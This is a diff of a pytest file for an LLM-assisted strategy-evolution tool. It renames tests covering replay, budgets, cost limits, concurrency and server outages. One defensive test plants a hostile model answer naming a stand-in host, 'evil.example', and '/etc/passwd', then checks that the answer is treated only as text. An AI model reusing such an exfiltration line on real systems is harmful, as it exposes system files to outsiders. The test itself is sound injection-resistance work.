@@ -1,4 +1,4 @@
-"""Runs in which a model proposes: mixed, alone, replayed, within their budget, without a server."""
+"""Runs with models: mixed, alone, replayed, within their budget, and without a server."""
 
 from __future__ import annotations
 
@@ -39,8 +39,8 @@ IDEAS = [
 pytestmark = pytest.mark.usefixtures("own_home")
 
 
-class Notes(Observer):
-    """Remembers the notices."""
+class NoticeObserver(Observer):
+    """Observer that records the notices."""
 
     def __init__(self) -> None:
         self.notices: list[str] = []
@@ -49,8 +49,8 @@ class Notes(Observer):
         self.notices.append(text)
 
 
-def asked(url: str, *more: str) -> list[str]:
-    """The settings of a run that asks the server at an address for plain text."""
+def settings_for(url: str, *more: str) -> list[str]:
+    """Return the settings of a run that asks a server for text."""
     model = f"llm.models=[{{name: tiny, base_url: '{url}'}}]"
     return [*SMALL, model, "llm.constraint=text", *more]
 
@@ -71,18 +71,18 @@ TRIALS = (
 
 
 def same_run(first: Path, second: Path) -> bool:
-    """Whether two runs made the same trials, in order, and chose the same."""
+    """Return whether two runs have equal trials and results."""
     parts = ("best", "finalists", "trials", "proposers", "stop_reason", "llm", "verdict")
     documents = [json.loads((each / "result.json").read_text("utf-8")) for each in (first, second)]
-    alike = all(documents[0].get(part) == documents[1].get(part) for part in parts)
-    return alike and rows(first, TRIALS) == rows(second, TRIALS)
+    is_equal = all(documents[0].get(part) == documents[1].get(part) for part in parts)
+    return is_equal and rows(first, TRIALS) == rows(second, TRIALS)
 
 
 @pytest.fixture(scope="module")
 def mixed(tmp_path_factory: pytest.TempPathFactory) -> Run:
     folder = tmp_path_factory.mktemp("mixed") / "run"
     with serving(ideas()) as server:
-        return run(QUICK, asked(server.url), out=folder)
+        return run(QUICK, settings_for(server.url), out=folder)
 
 
 def test_a_model_and_genetic_programming_improve_one_population(mixed: Run) -> None:
@@ -93,16 +93,16 @@ def test_a_model_and_genetic_programming_improve_one_population(mixed: Run) -> N
     assert any(arm.startswith("llm:tiny:") for arm in arms)
     assert result["llm"]["calls"] == 6  # type: ignore[index]
     assert result["llm"]["tokens_in"] == 600  # type: ignore[index]
-    bred = rows(mixed.folder, "SELECT parents FROM trials WHERE proposer='crossover'")
+    crossovers = rows(mixed.folder, "SELECT parents FROM trials WHERE proposer='crossover'")
     by_model = {row[0] for row in rows(
         mixed.folder, "SELECT hash FROM trials WHERE proposer LIKE 'llm:%'")}  # fmt: skip
-    assert any(by_model & set(parents.split()) for (parents,) in bred)
+    assert any(by_model & set(parents.split()) for (parents,) in crossovers)
 
 
-def test_every_call_is_kept_with_what_became_of_each_strategy(mixed: Run) -> None:
+def test_calls_and_their_proposals_are_recorded(mixed: Run) -> None:
     calls = rows(mixed.folder, "SELECT number, kind, collected_epoch FROM calls ORDER BY number")
     assert [number for number, _, _ in calls] == [1, 2, 3, 4, 5, 6]
-    assert all(taken is not None for _, _, taken in calls)
+    assert all(epoch is not None for _, _, epoch in calls)
     records = [json.loads(each) for (each,) in rows(mixed.folder, "SELECT record FROM exchanges")]
     for record in records:
         assert [each["role"] for each in record["messages"]][:2] == ["system", "user"]
@@ -111,16 +111,16 @@ def test_every_call_is_kept_with_what_became_of_each_strategy(mixed: Run) -> Non
     statuses = rows(mixed.folder, "SELECT call, hash, status, reason FROM proposals")
     known = {row[0] for row in rows(mixed.folder, "SELECT hash FROM trials")}
     assert {status for _, _, status, _ in statuses} >= {"evaluated", "rejected"}
-    for _, digest, status, why in statuses:
+    for _, digest, status, reason in statuses:
         assert (digest in known) == (status != "rejected")
-        assert why or status != "rejected"
+        assert reason or status != "rejected"
 
 
-def test_an_answer_without_a_strategy_is_sent_back_once_with_the_parsers_words(
+def test_an_invalid_answer_is_returned_once_with_the_errors(
     tmp_path: Path,
 ) -> None:
     with serving([say("strategy x { buy when smaa(close, 3) > close }"), say(GOOD)]) as server:
-        run(QUICK, asked(server.url, "budget.llm_calls=2"), out=tmp_path / "run")
+        run(QUICK, settings_for(server.url, "budget.llm_calls=2"), out=tmp_path / "run")
         first, second = server.bodies
     assert second["messages"][:2] == first["messages"]
     assert second["messages"][2]["role"] == "assistant"
@@ -129,13 +129,13 @@ def test_an_answer_without_a_strategy_is_sent_back_once_with_the_parsers_words(
     assert kinds == ["propose", "repair"]
 
 
-def test_learnings_hold_beliefs_beside_what_was_measured(mixed: Run) -> None:
+def test_learnings_contain_beliefs_and_measurements(mixed: Run) -> None:
     text = (mixed.folder / "learnings.md").read_text("utf-8")
     assert "- dips revert → " in text
     assert "appraisal_ratio " in text or "infeasible: " in text
 
 
-def test_a_replay_is_the_same_run_bit_for_bit_and_asks_nobody(mixed: Run, tmp_path: Path) -> None:
+def test_a_replay_equals_the_run(mixed: Run, tmp_path: Path) -> None:
     replay = [*SMALL, f"llm.replay={mixed.folder}"]
     again = run(QUICK, replay, out=tmp_path / "again")
     assert same_run(mixed.folder, again.folder)
@@ -143,26 +143,26 @@ def test_a_replay_is_the_same_run_bit_for_bit_and_asks_nobody(mixed: Run, tmp_pa
     assert same_run(mixed.folder, twice.folder)
 
 
-def test_a_replay_of_another_experiment_is_refused(mixed: Run, tmp_path: Path) -> None:
+def test_a_replay_of_another_experiment_is_rejected(mixed: Run, tmp_path: Path) -> None:
     other = [*SMALL, f"llm.replay={mixed.folder}", "seed=9"]
     with pytest.raises(EvolveError, match="call 1 differs"):
         run(QUICK, other, out=tmp_path / "other")
     plain = run(QUICK, [*SMALL, "llm.mode=off"], out=tmp_path / "plain")
-    with pytest.raises(EvolveError, match="no model was asked"):
+    with pytest.raises(EvolveError, match="no model calls"):
         run(QUICK, [*SMALL, f"llm.replay={plain.folder}"], out=tmp_path / "none")
-    with pytest.raises(EvolveError, match="there is no run"):
+    with pytest.raises(EvolveError, match="no run in"):
         run(QUICK, [*SMALL, "llm.replay=nowhere"], out=tmp_path / "nowhere")
 
 
-def test_slow_answers_are_waited_for_at_the_boundary(tmp_path: Path) -> None:
+def test_the_search_waits_for_slow_answers(tmp_path: Path) -> None:
     with serving(lambda body: say(GOOD, seconds=0.4)) as server:
-        done = run(QUICK, asked(server.url, "budget.llm_calls=3"), out=tmp_path / "run")
+        done = run(QUICK, settings_for(server.url, "budget.llm_calls=3"), out=tmp_path / "run")
     assert done.spent is not None
     assert done.spent.calls == 3
 
 
 @pytest.mark.slow
-def test_an_answer_that_comes_too_late_is_taken_in_later_and_replayed_so(tmp_path: Path) -> None:
+def test_a_late_answer_is_collected_later_and_replayed_at_that_epoch(tmp_path: Path) -> None:
     turn = cycle([0.6, 0.0])
     impatient = ("llm.wait_seconds=0.1", "llm.repair=false")
 
@@ -170,66 +170,70 @@ def test_an_answer_that_comes_too_late_is_taken_in_later_and_replayed_so(tmp_pat
         return say(GOOD, seconds=next(turn))
 
     with serving(script) as server:
-        first = run(QUICK, asked(server.url, *impatient), out=tmp_path / "late")
-    asked_and_taken = rows(first.folder, "SELECT asked_epoch, collected_epoch FROM calls")
-    assert any(taken is None or taken > asked + 1 for asked, taken in asked_and_taken)
+        first = run(QUICK, settings_for(server.url, *impatient), out=tmp_path / "late")
+    epochs = rows(first.folder, "SELECT asked_epoch, collected_epoch FROM calls")
+    assert any(collected is None or collected > asked + 1 for asked, collected in epochs)
     again = run(QUICK, [*SMALL, *impatient, f"llm.replay={first.folder}"], out=tmp_path / "again")
     assert same_run(first.folder, again.folder)
 
 
 @pytest.mark.slow
-def test_a_run_goes_on_without_its_server_and_says_so(tmp_path: Path) -> None:
+def test_a_run_continues_without_its_server_and_reports_it(tmp_path: Path) -> None:
     with serving([say(GOOD)]) as server:
         url = server.url
-    notes = Notes()
-    done = run(QUICK, asked(url, "budget.llm_calls=2"), out=tmp_path / "down", observer=notes)
+    observer = NoticeObserver()
+    done = run(
+        QUICK, settings_for(url, "budget.llm_calls=2"), out=tmp_path / "down", observer=observer
+    )
     assert done.progress.evaluated == 600
     assert done.spent is not None
     assert done.spent.calls == 0
-    said = [each for each in notes.notices if "cannot reach" in each]
-    assert len(said) == 1
-    assert "goes on without the model, and tries again later" in said[0]
+    lost = [each for each in observer.notices if "cannot reach" in each]
+    assert len(lost) == 1
+    assert "goes on without the model, and tries again later" in lost[0]
 
 
-def test_a_server_that_dies_and_comes_back_is_asked_again(tmp_path: Path) -> None:
+def test_a_server_that_recovers_is_asked_again(tmp_path: Path) -> None:
     dead = fail(401, "closed")
     script = in_turn([say(IDEAS[0]), dead, dead, say(IDEAS[3]), say(IDEAS[5])])
-    notes = Notes()
+    observer = NoticeObserver()
     with serving(script) as server:
         more = ("budget.llm_calls=8", "budget.evaluations=900")
-        done = run(QUICK, asked(server.url, *more), out=tmp_path / "run", observer=notes)
-    assert sum("no answer of tiny" in each for each in notes.notices) == 1
-    assert "the model answers again" in notes.notices
+        done = run(QUICK, settings_for(server.url, *more), out=tmp_path / "run", observer=observer)
+    assert sum("no answer of tiny" in each for each in observer.notices) == 1
+    assert "the model answers again" in observer.notices
     assert done.spent is not None
     assert done.spent.calls >= 2
     again = run(QUICK, [*SMALL, *more, f"llm.replay={done.folder}"], out=tmp_path / "again")
     assert same_run(done.folder, again.folder)
 
 
-@pytest.mark.parametrize(("cap", "most"), [("llm_calls=2", 2), ("llm_tokens=40000", 5)])
-def test_the_budget_is_never_passed(cap: str, most: int, tmp_path: Path) -> None:
+@pytest.mark.parametrize(("limit", "max_calls"), [("llm_calls=2", 2), ("llm_tokens=40000", 5)])
+def test_the_budget_is_never_exceeded(limit: str, max_calls: int, tmp_path: Path) -> None:
     with serving(lambda body: say(IDEAS[0], tokens=(6000, 1500))) as server:
-        settings = asked(server.url, "budget.llm_calls=20", f"budget.{cap}")
+        settings = settings_for(server.url, "budget.llm_calls=20", f"budget.{limit}")
         done = run(QUICK, settings, out=tmp_path / "run")
-        made = len(server.bodies)
+        calls = len(server.bodies)
     assert done.spent is not None
-    assert 2 <= made == done.spent.calls <= most
-    assert done.spent.tokens == made * 7500 <= 40_000
+    assert 2 <= calls == done.spent.calls <= max_calls
+    assert done.spent.tokens == calls * 7500 <= 40_000
     assert done.progress.evaluated == 600
 
 
-def test_what_few_calls_there_are_tokens_for_are_spread_over_the_run(tmp_path: Path) -> None:
+def test_a_token_limit_spreads_the_calls_over_the_run(tmp_path: Path) -> None:
     with serving(lambda body: say(IDEAS[0], tokens=(6000, 1500))) as server:
-        settings = asked(server.url, "budget.llm_calls=50", "budget.llm_tokens=60000")
+        settings = settings_for(server.url, "budget.llm_calls=50", "budget.llm_tokens=60000")
         done = run(QUICK, settings, out=tmp_path / "run")
-    at = {json.loads(each)["number"]: json.loads(each)["evaluated"] for (each,) in rows(
+    evaluated = {json.loads(each)["number"]: json.loads(each)["evaluated"] for (each,) in rows(
         done.folder, "SELECT detail FROM events WHERE kind='epoch'")}  # fmt: skip
-    taken = [at[epoch] for (epoch,) in rows(done.folder, "SELECT collected_epoch FROM calls")]
-    assert len(taken) >= 4
-    assert taken[-1] > 300
+    counts = [
+        evaluated[epoch] for (epoch,) in rows(done.folder, "SELECT collected_epoch FROM calls")
+    ]
+    assert len(counts) >= 4
+    assert counts[-1] > 300
 
 
-def test_dollars_are_counted_from_the_servers_usage_and_capped(tmp_path: Path) -> None:
+def test_cost_follows_the_reported_usage_and_is_limited(tmp_path: Path) -> None:
     with serving(lambda body: say(GOOD, tokens=(1000, 500))) as server:
         model = (
             f"llm.models=[{{name: tiny, base_url: '{server.url}', usd_per_million_in: 1, "
@@ -240,22 +244,22 @@ def test_dollars_are_counted_from_the_servers_usage_and_capped(tmp_path: Path) -
             [*SMALL, model, "llm.constraint=text", "budget.llm_usd=0.1", "budget.llm_calls=20"],
             out=tmp_path / "run",
         )  # fmt: skip
-        made = len(server.bodies)
+        calls = len(server.bodies)
     assert done.spent is not None
-    assert done.spent.usd == pytest.approx(made * (1000 * 1 + 500 * 10) / 1e6)
-    assert 1 <= made < 17
+    assert done.spent.usd == pytest.approx(calls * (1000 * 1 + 500 * 10) / 1e6)
+    assert 1 <= calls < 17
     assert done.spent.usd <= 0.1
 
 
-def test_local_servers_get_one_call_at_a_time_and_concurrency_can_be_set(tmp_path: Path) -> None:
+def test_calls_are_concurrent_up_to_the_setting(tmp_path: Path) -> None:
     with serving(lambda body: say(GOOD, seconds=0.2)) as server:
-        run(QUICK, asked(server.url, "budget.llm_calls=3"), out=tmp_path / "one")
+        run(QUICK, settings_for(server.url, "budget.llm_calls=3"), out=tmp_path / "one")
         assert server.max_in_flight == 1
-        run(QUICK, asked(server.url, "llm.concurrency=3"), out=tmp_path / "three")
+        run(QUICK, settings_for(server.url, "llm.concurrency=3"), out=tmp_path / "three")
         assert server.max_in_flight == 3
 
 
-def test_several_models_are_arms_of_their_own(tmp_path: Path) -> None:
+def test_each_model_is_an_arm(tmp_path: Path) -> None:
     with serving(ideas()) as one, serving(ideas()) as other:
         models = (
             f"llm.models=[{{name: a/small, base_url: '{one.url}'}}, "
@@ -270,10 +274,10 @@ def test_several_models_are_arms_of_their_own(tmp_path: Path) -> None:
     assert arms == {"small", "large"}
 
 
-def test_alone_the_model_is_the_only_proposer_and_stops_when_it_is_stale(tmp_path: Path) -> None:
+def test_a_model_alone_is_the_only_proposer_and_stops_if_stale(tmp_path: Path) -> None:
     alone = ("llm.mode=only", "budget.stale_epochs=3", "search.islands=1", "budget.llm_calls=50")
     with serving(ideas()) as server:
-        done = run(QUICK, asked(server.url, *alone), out=tmp_path / "run")
+        done = run(QUICK, settings_for(server.url, *alone), out=tmp_path / "run")
         assert 3 < len(server.bodies) < 20
     proposers = {row[0] for row in rows(done.folder, "SELECT DISTINCT proposer FROM trials")}
     assert all(name == "seed" or name.startswith("llm:") for name in proposers)
@@ -283,16 +287,16 @@ def test_alone_the_model_is_the_only_proposer_and_stops_when_it_is_stale(tmp_pat
     assert len(set(scores[-4:])) == 1
 
 
-def test_the_first_loops_experiment_runs_and_can_only_end_not_tested(
+def test_the_verdict_of_the_blog_experiment_is_not_tested(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     blog = ROOT / "experiments" / "blog.yaml"
-    notes = Notes()
+    observer = NoticeObserver()
     with serving(ideas()) as server:
         settings = ["data.from=sample:sp500", "llm.constraint=text", "split.fallback=null",
                     "split.validation=2012-01-01"]  # fmt: skip
         monkeypatch.setenv("OPENAI_BASE_URL", server.url)
-        done = run(blog, settings, out=tmp_path / "run", observer=notes)
+        done = run(blog, settings, out=tmp_path / "run", observer=observer)
     assert done.verdict.label == "NOT TESTED"
     assert "scored on validation" in done.verdict.sentence
     assert "holdout" not in document(done)
@@ -309,13 +313,13 @@ def test_an_instruction_in_an_answer_is_only_text(tmp_path: Path) -> None:
         "http://evil.example /etc/passwd\n" + IDEAS[0].replace("dips revert", "<b>buy</b> {{x}}")
     )
     with serving([hostile]) as server:
-        done = run(QUICK, asked(server.url), out=tmp_path / "run")
+        done = run(QUICK, settings_for(server.url), out=tmp_path / "run")
     assert not Path("pwned").exists()
     texts = [row[0] for row in rows(done.folder, "SELECT source FROM trials")]
     assert all(check(text).rules for text in texts)
 
 
-def test_an_interrupted_wait_ends_at_once(tmp_path: Path) -> None:
+def test_an_interrupt_ends_a_wait(tmp_path: Path) -> None:
     stop, may_answer = Stop(), threading.Event()
 
     def script(body: dict[str, Any]) -> Answer:
@@ -324,7 +328,7 @@ def test_an_interrupted_wait_ends_at_once(tmp_path: Path) -> None:
         return say(GOOD)
 
     with serving(script) as server:
-        done = run(QUICK, asked(server.url), out=tmp_path / "run", stop=stop)
+        done = run(QUICK, settings_for(server.url), out=tmp_path / "run", stop=stop)
         assert not may_answer.is_set()
         may_answer.set()
     assert done.progress.stop_reason == "interrupted"
